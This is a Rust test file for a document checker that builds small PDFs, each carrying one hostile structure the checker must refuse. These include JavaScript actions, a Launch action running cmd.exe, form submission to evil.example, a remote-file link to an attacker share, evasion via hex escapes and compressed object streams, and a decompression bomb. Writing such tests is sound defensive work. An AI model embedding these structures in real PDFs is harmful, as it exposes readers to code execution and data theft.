//! PDF identity documents through `check_document`: small PDFs written out in the test,
//! each with one thing that must (or must not) get it refused.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::cast_possible_truncation
)]

use std::fmt::Write as _;
use std::io::Write as _;

use flate2::Compression;
use flate2::write::ZlibEncoder;
use souk_media::{Limits, MediaError, MediaKind, check_document};

const CATALOG: &str = "<< /Type /Catalog /Pages 2 0 R >>";
const PAGES: &str = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const PAGE: &str = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>";

fn stream(dict: &str, data: &[u8]) -> Vec<u8> {
    let mut out = format!("<< {dict} /Length {} >>\nstream\n", data.len()).into_bytes();
    out.extend(data);
    out.extend(b"\nendstream");
    out
}

fn contents() -> Vec<u8> {
    stream("", b"BT /F1 12 Tf 72 770 Td (Passport of A. N. Other) Tj ET")
}

/// A complete PDF (header, numbered objects, cross-reference table, trailer) with `objects`
/// as objects 1, 2, ... and `trailer` added to the trailer dictionary.
fn pdf_with_trailer(objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = Vec::new();
    for (number, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend(format!("{} 0 obj\n", number + 1).as_bytes());
        out.extend(body);
        out.extend(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for offset in offsets {
        out.extend(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R {trailer} >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

fn pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    pdf_with_trailer(objects, "")
}

/// A one-page PDF whose catalog also holds `extra`, and with `more` objects after the page.
fn pdf_with(extra: &str, more: &[Vec<u8>]) -> Vec<u8> {
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {extra} >>").into_bytes(),
        PAGES.into(),
        PAGE.into(),
        contents(),
    ];
    objects.extend_from_slice(more);
    pdf(&objects)
}

fn plain() -> Vec<u8> {
    pdf(&[CATALOG.into(), PAGES.into(), PAGE.into(), contents()])
}

fn check(bytes: &[u8]) -> Result<MediaKind, MediaError> {
    check_document(bytes, &Limits::DOCUMENT).map(|document| document.kind())
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

/// An object stream holding `objects` as objects 10, 11, ..., its data given to `encode`.
fn object_stream(objects: &[&str], dict: &str, encode: impl Fn(&[u8]) -> Vec<u8>) -> Vec<u8> {
    let mut header = String::new();
    let mut body = String::new();
    for (index, object) in objects.iter().enumerate() {
        write!(header, "{} {} ", index + 10, body.len()).unwrap();
        body.push_str(object);
        body.push('\n');
    }
    let data = format!("{header}{body}");
    let dict = format!("/Type /ObjStm /N {} /First {} {dict}", objects.len(), header.len());
    stream(&dict, &encode(data.as_bytes()))
}

#[test]
fn a_plain_pdf_is_accepted_byte_for_byte() {
    let bytes = plain();
    let document = check_document(&bytes, &Limits::DOCUMENT).unwrap();
    assert_eq!(document.kind(), MediaKind::Pdf);
    assert_eq!(document.dimensions(), None);
    assert_eq!(document.bytes(), bytes.as_slice());
    assert_eq!(document.into_bytes(), bytes);
}

#[test]
fn pdf_2_and_trailing_whitespace_are_accepted() {
    let mut bytes = plain();
    bytes[5] = b'2';
    bytes.extend(b"\r\n\0\0  \n");
    assert_eq!(check(&bytes), Ok(MediaKind::Pdf));
}

#[test]
fn each_kind_of_active_content_is_refused_and_named() {
    for (extra, more, what) in [
        ("/OpenAction 5 0 R", "<< /S /Named /N /Print >>", "an action that runs when the file is opened"),
        ("/OpenAction 9 0 R", "[3 0 R /Fit]", "an action that runs when the file is opened"),
        ("/OpenAction /Named", "<< >>", "an action that runs when the file is opened"),
        ("/OpenAction 5 0 R", "<< /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
        ("/OpenAction << /S /Named /N /Print >>", "<< >>", "an action that runs when the file is opened"),
        (
            "/OpenAction << /S /URI /URI (https://tracker.example/) >>",
            "<< >>",
            "an action that runs when the file is opened",
        ),
        (
            "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            "<< /S /Named /N /Print >>",
            "an action that runs when the file is opened",
        ),
        (
            "/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /URI /URI (x) >>",
            "<< >>",
            "an action that runs when the file is opened",
        ),
        ("/Names << /JavaScript 5 0 R >>", "<< /Names [(x) 6 0 R] >>", "JavaScript"),
        ("", "<< /S /JavaScript /JS 6 0 R >>", "JavaScript"),
        ("", "<< /Type /Action /JS (this.print()) >>", "JavaScript"),
        (
            "",
            "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
            "an action that starts a program",
        ),
        ("", "<< /Type /EmbeddedFile /Subtype /application#2Fzip >>", "an embedded file"),
        ("/Names << /EmbeddedFiles 5 0 R >>", "<< /Names [] >>", "an embedded file"),
        ("", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>", "embedded media"),
        ("/AcroForm << /Fields [] /XFA 5 0 R >>", "<< >>", "an XFA form"),
        ("/AA << /WC 5 0 R >>", "<< /S /GoTo /D [3 0 R /Fit] >>", "actions that run on viewing or clicking"),
        ("", "<< /S /GoToE /T << /R /C /N (x) >> >>", "a link into an embedded file"),
        ("", "<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>", "a link to another file"),
        ("", "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>", "a form that sends data"),
        ("", "<< /S /ImportData /F (data.fdf) >>", "a form that imports data"),
    ] {
        let bytes = pdf_with(extra, &[more.into(), b"<< >>".to_vec()]);
        assert_eq!(check(&bytes), Err(MediaError::ActiveContent(what)), "{extra} {more}");
    }
}

#[test]
fn a_page_action_is_refused() {
    let page = "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /AA << /O 5 0 R >> >>";
    let bytes =
        pdf(&[CATALOG.into(), PAGES.into(), page.into(), contents(), b"<< /S /Named /N /Print >>".to_vec()]);
    assert_eq!(check(&bytes), Err(MediaError::ActiveContent("actions that run on viewing or clicking")));
}

#[test]
fn names_spelled_with_hex_escapes_are_still_found() {
    for more in ["<< /S /J#61vaScript >>", "<< /#4A#53 (app.alert(1)) >>", "<< /S /#4c#61#75#6e#63#68 >>"] {
        let bytes = pdf_with("", &[more.into()]);
        assert!(matches!(check(&bytes), Err(MediaError::ActiveContent(_))), "{more}");
    }
}

#[test]
fn names_that_only_begin_like_a_marker_are_accepted() {
    // Every PDF saved on a Mac carries /AAPL:Keywords; a substring search for /AA would
    // refuse them all.
    let info = "<< /Title (Passport) /AAPL:Keywords [(id)] /JSONish (no) /Launcher (no) >>";
    let bytes = pdf_with_trailer(
        &[CATALOG.into(), PAGES.into(), PAGE.into(), contents(), info.into()],
        "/Info 5 0 R",
    );
    assert_eq!(check(&bytes), Ok(MediaKind::Pdf));
    // A broken escape decodes to nothing a reader would act on.
    assert_eq!(check(&pdf_with("", &[b"<< /J#+3 1 >>".to_vec()])), Ok(MediaKind::Pdf));
}

#[test]
fn an_open_action_that_only_picks_the_first_page_is_accepted() {
    // The form LibreOffice writes.
    assert_eq!(check(&pdf_with("/OpenAction [3 0 R /XYZ null null 0]", &[])), Ok(MediaKind::Pdf));
    assert_eq!(check(&pdf_with("/OpenAction\n  [3 0 R /Fit]", &[])), Ok(MediaKind::Pdf));
    assert_eq!(check(&pdf_with("/OpenAction 5 0 R", &[b"[3 0 R /Fit]".to_vec()])), Ok(MediaKind::Pdf));
    // LaTeX (hyperref) refers to a go-to action, which pdfTeX packs into an object stream.
    assert_eq!(check(&pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", &[])), Ok(MediaKind::Pdf));
    let packed = object_stream(&["<< /S /GoTo /D [3 0 R /Fit] >>"], "/Filter /FlateDecode", zlib);
    assert_eq!(check(&pdf_with("/OpenAction 10 0 R", &[packed])), Ok(MediaKind::Pdf));
}

#[test]
fn an_open_action_redefined_as_an_action_by_an_update_is_refused() {
    // An incremental update appends a new version of object 5; a reader uses the last one.
    let mut bytes = pdf_with("/OpenAction 5 0 R", &[b"[3 0 R /Fit]".to_vec()]);
    let update = b"5 0 obj\n<< /S /Named /N /Print >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
    bytes.extend(update);
    assert_eq!(check(&bytes), Err(MediaError::ActiveContent("an action that runs when the file is opened")));
    // Object 10 both as an array in the file and as an action in an object stream: which
    // one a reader takes depends on cross-reference details, so both must only pick a page.
    let packed = object_stream(&["<< /S /URI /URI (https://tracker.example/) >>"], "", <[u8]>::to_vec);
    let mut more = vec![b"<< >>".to_vec(); 6];
    more[5] = b"[3 0 R /Fit]".to_vec();
    assert_eq!(check(&pdf_with("/OpenAction 10 0 R", &more)), Ok(MediaKind::Pdf), "the array alone");
    more[0] = packed;
    assert_eq!(
        check(&pdf_with("/OpenAction 10 0 R", &more)),
        Err(MediaError::ActiveContent("an action that runs when the file is opened"))
    );
}

#[test]
fn page_drawing_data_is_not_mistaken_for_actions() {
    // Text drawn on the page is stream data, not a dictionary: it cannot act.
    let drawing = stream("", b"BT /F1 12 Tf (/JavaScript /JS /AA) Tj ET");
    let bytes = pdf(&[CATALOG.into(), PAGES.into(), PAGE.into(), drawing]);
    assert_eq!(check(&bytes), Ok(MediaKind::Pdf));
}

#[test]
fn a_stream_keyword_inside_a_string_does_not_hide_what_follows() {
    let bytes = pdf_with("/Title (x >>\nstream\n) /OpenAction << /S /JavaScript >>", &[]);
    assert!(matches!(check(&bytes), Err(MediaError::ActiveContent(_))));
    let bytes = pdf_with("/Title <3e3e73747265616d> /AA << >>", &[]);
    assert!(matches!(check(&bytes), Err(MediaError::ActiveContent(_))));
}

#[test]
fn compressed_object_streams_are_inflated_and_screened() {
    let clean = object_stream(
        &["<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"],
        "/Filter /FlateDecode",
        zlib,
    );
    assert_eq!(check(&pdf_with("", &[clean])), Ok(MediaKind::Pdf));

    let hidden = object_stream(
        &["<< /Type /Font >>", "<< /S /JavaScript /JS (app.alert(1)) >>"],
        "/Filter /FlateDecode",
        zlib,
    );
    assert_eq!(check(&pdf_with("", &[hidden])), Err(MediaError::ActiveContent("JavaScript")));
    // The same with the filter in an array, and uncompressed.
    let hidden = object_stream(&["<< /S /Launch >>"], "/Filter [/FlateDecode]", zlib);
    assert_eq!(
        check(&pdf_with("", &[hidden])),
        Err(MediaError::ActiveContent("an action that starts a program"))
    );
    // Without `/Type /ObjStm`: its `/First` key gives it away.
    let mut untyped = object_stream(&["<< /S /JavaScript >>"], "/Filter /FlateDecode", zlib);
    let at = untyped.windows(14).position(|window| window == b"/Type /ObjStm ").unwrap();
    untyped.drain(at..at + 14);
    assert_eq!(check(&pdf_with("", &[untyped])), Err(MediaError::ActiveContent("JavaScript")));
    let hidden = object_stream(&["<< /S /Launch >>"], "", <[u8]>::to_vec);
    assert_eq!(
        check(&pdf_with("", &[hidden])),
        Err(MediaError::ActiveContent("an action that starts a program"))
    );
}

#[test]
fn object_streams_that_cannot_be_inflated_here_are_unverifiable() {
    let hex = |data: &[u8]| {
        data.iter()
            .flat_map(|byte| {
                [b"0123456789abcdef"[usize::from(byte >> 4)], b"0123456789abcdef"[usize::from(byte & 15)]]
            })
            .collect()
    };
    for (dict, encode) in [
        (
            "/Filter [/FlateDecode /FlateDecode]",
            &(|data: &[u8]| zlib(&zlib(data))) as &dyn Fn(&[u8]) -> Vec<u8>,
        ),
        ("/Filter /ASCIIHexDecode", &hex),
        ("/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", &zlib),
        ("/Filter 9 0 R", &zlib),
    ] {
        let objects = object_stream(&["<< /S /JavaScript >>"], dict, encode);
        assert!(matches!(check(&pdf_with("", &[objects])), Err(MediaError::Unverifiable(_))), "{dict}");
    }
}

#[test]
fn an_object_stream_that_is_not_flate_data_is_corrupt() {
    let broken = object_stream(&["<< >>"], "/Filter /FlateDecode", <[u8]>::to_vec);
    assert_eq!(check(&pdf_with("", &[broken])), Err(MediaError::Corrupt));
}

#[test]
fn an_object_stream_that_inflates_too_far_is_refused() {
    let limits = Limits { max_bytes: 10_000, ..Limits::DOCUMENT };
    let padding = " ".repeat(100_000);
    let bomb = object_stream(&[&format!("<< /Padding ({padding}) >>")], "/Filter /FlateDecode", zlib);
    let bytes = pdf_with("", &[bomb]);
    assert!(bytes.len() < 10_000);
    assert_eq!(
        check_document(&bytes, &limits),
        Err(MediaError::Unverifiable("its compressed parts expand to far more than the file's size"))
    );
    // Within the default limits the same file is fine.
    assert_eq!(check(&bytes), Ok(MediaKind::Pdf));
}

#[test]
fn an_encrypted_pdf_is_unverifiable() {
    let encrypt = "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1 /O <00> /U <00> >>";
    let bytes = pdf_with_trailer(
        &[CATALOG.into(), PAGES.into(), PAGE.into(), contents(), encrypt.into()],
        "/Encrypt 5 0 R /ID [<01><01>]",
    );
    assert_eq!(check(&bytes), Err(MediaError::Unverifiable("it is encrypted or password-protected")));
}

#[test]
fn malformed_pdfs_are_corrupt() {
    let good = plain();
    let mut version_3 = good.clone();
    version_3[5] = b'3';
    let mut no_version = b"%PDF-".to_vec();
    no_version.extend(&good[8..]);
    let no_end = good[..good.len() - 6].to_vec();
    let mut appended = good.clone();
    appended.extend(b"<html><script>alert(1)</script></html>");
    let mut far_end = good.clone();
    far_end.extend(vec![b' '; 2000]);
    let mut unterminated = good[..good.len() - 7].to_vec();
    unterminated.extend(b"(never closed\n%%EOF\n");
    for (what, bytes) in [
        ("version 3", version_3),
        ("no version", no_version),
        ("no %%EOF", no_end),
        ("something appended", appended),
        ("%%EOF more than a kilobyte from the end", far_end),
        ("an unterminated string", unterminated),
    ] {
        assert_eq!(check(&bytes), Err(MediaError::Corrupt), "{what}");
    }
}

#[test]
fn pdfs_over_the_byte_limit_are_refused() {
    let bytes = plain();
    let limits = Limits { max_bytes: bytes.len() - 1, ..Limits::DOCUMENT };
    assert_eq!(
        check_document(&bytes, &limits),
        Err(MediaError::TooLarge { bytes: bytes.len(), max: bytes.len() - 1 })
    );
    assert_eq!(check_document(b"", &Limits::DOCUMENT), Err(MediaError::Empty));
}

#[test]
fn other_types_are_refused_as_documents() {
    for bytes in [b"<html><body>passport</body></html>".as_slice(), b"GIF89a\x01\x00\x01\x00", b"PK\x03\x04"]
    {
        assert_eq!(check(bytes), Err(MediaError::UnsupportedType));
    }
}

#[test]
fn hostile_structures_are_judged_in_one_pass() {
    // Each file is about a megabyte: a check that went back over the file for each object
    // or each open action would take minutes here (and time out), a linear one milliseconds.
    let hostile = |body: &[u8]| {
        let mut out = b"%PDF-1.7\n".to_vec();
        out.extend(body);
        out.extend(b"\n%%EOF\n");
        out
    };
    let unclosed = hostile(&b"1 0 obj << /S /GoTo /D [3 0 R] ".repeat(30_000));
    let many_open_actions = hostile(&b"/OpenAction 1 0 R ".repeat(60_000));
    let mut targets = b"1 0 obj << /OpenAction 2 0 R >> endobj ".to_vec();
    targets.extend(b"2 0 obj << /S /GoTo /D [".repeat(40_000));
    let many_definitions = hostile(&targets);
    let nested = hostile(&[b"(".repeat(500_000), b")".repeat(500_000)].concat());
    let streams = hostile(&b"<< >> stream\nx\nendstream ".repeat(40_000));
    for (what, bytes, expected) in [
        ("unclosed dictionaries", unclosed, Ok(MediaKind::Pdf)),
        (
            "open actions",
            many_open_actions,
            Err(MediaError::ActiveContent("an action that runs when the file is opened")),
        ),
        (
            "definitions",
            many_definitions,
            Err(MediaError::ActiveContent("an action that runs when the file is opened")),
        ),
        ("nested parentheses", nested, Ok(MediaKind::Pdf)),
        ("streams", streams, Ok(MediaKind::Pdf)),
    ] {
        assert!(bytes.len() > 500_000, "{what}");
        assert_eq!(check(&bytes), expected, "{what}");
    }
}
